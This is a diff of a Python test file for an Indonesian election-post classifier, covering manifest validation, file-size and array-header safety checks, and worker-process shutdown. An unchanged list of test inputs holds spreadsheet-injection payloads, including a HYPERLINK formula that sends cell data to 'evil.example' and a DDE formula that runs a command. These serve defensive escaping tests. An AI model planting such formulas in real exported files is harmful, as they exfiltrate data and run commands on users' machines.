@@ -15,6 +15,7 @@ import sys
 import tempfile
 import time
 import zipfile
+from io import BytesIO
 from pathlib import Path
 
 import numpy as np
@@ -39,6 +40,7 @@ pytest.importorskip("pyarrow")
 pytest.importorskip("openpyxl")
 
 FORMATS = ["csv", "tsv", "xlsx", "parquet", "jsonl"]
+FLAGS_AT = {label: 0.4 for label in FLAG_LABELS}
 #: Posts a spreadsheet would run (item 1): formulas, DDE, and the same behind blanks, tabs and our own escape mark.
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "+62 812 amplop", "-2+3",
             "@SUM(1+1)", "  =1+1", "\t=1+1", "\r=1+1", "'=already quoted", "''=twice"]
@@ -119,7 +121,6 @@ def tampered(source: Path, destination: Path, raw: str | None = None, **changes)
     return destination
 
 
-FLAGS_AT = {label: 0.4 for label in FLAG_LABELS}
 BAD_FIELDS = [
     ({"batch_size": -1}, "batch_size"), ({"batch_size": 0}, "batch_size"), ({"batch_size": 2.5}, "batch_size"),
     ({"batch_size": True}, "batch_size"), ({"temperature": 0}, "temperature"), ({"temperature": -1.0}, "temperature"),
@@ -146,9 +147,9 @@ def test_manifest_fields_are_validated(tiny_model_dir, tmp_path, changes, match)
     ('{"format_version": 1, "temperature": NaN}', "not valid JSON"),
     ('{"format_version": 1, "temperature": Infinity}', "not valid JSON"),
     ("[1, 2]", "JSON object"), ("{not json", "not valid JSON"), ("\xff\xfe", "not valid JSON"),
-    ('{"format_version": 1, "backend": "linear", "name": "x", "normalizer_version": "1", '
-     '"labels": ["hoax", "hate_speech", "illegal_campaign", "benign"], "temperature": 1e400, '
-     '"thresholds": {"hoax": 0.5, "hate_speech": 0.5, "illegal_campaign": 0.5}}', "temperature"),
+    (json.dumps({"format_version": 1, "backend": "linear", "name": "x", "normalizer_version": "1",
+                 "labels": list(LABELS), "temperature": 0.5, "thresholds": FLAGS_AT}).replace("0.5", "1e400"),
+     "temperature"),
     ("[" * 100_000 + "]" * 100_000, "not valid JSON"),
 ])
 def test_malformed_manifests_are_one_line_errors(tiny_model_dir, tmp_path, raw, match):
@@ -211,11 +212,10 @@ def test_size_caps_apply_before_reading(tiny_model_dir, tmp_path, monkeypatch):
 def test_npz_whose_header_claims_a_huge_array_is_refused(tiny_model_dir, tmp_path):
     """numpy allocates what an array header declares; a 1-KB file could otherwise ask for gigabytes."""
     copy = shutil.copytree(tiny_model_dir, tmp_path / "m")
-    header = tempfile.SpooledTemporaryFile()
+    header = BytesIO()
     np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (10**9,)})
-    header.seek(0)
     with zipfile.ZipFile(copy / "linear.npz", "w") as archive:
-        archive.writestr("coef.npy", header.read() + b"\0" * 64)
+        archive.writestr("coef.npy", header.getvalue() + b"\0" * 64)
     restamp_files(copy)
     with pytest.raises(ModelFileError, match="declares shape") as caught:
         load_model(copy)
@@ -448,7 +448,7 @@ ORPHAN_SCRIPT = """
 import os, sys, time
 from concurrent.futures import ProcessPoolExecutor
 from pilkada_nlp.batch import exit_with_parent
-pool = ProcessPoolExecutor(2, initializer=exit_with_parent, initargs=(os.getpid(), 0.05))
+pool = ProcessPoolExecutor(2, initializer=exit_with_parent, initargs=(0.05,))
 pids = set()
 while len(pids) < 2:
     pids |= {f.result() for f in [pool.submit(os.getpid) for _ in range(8)]}
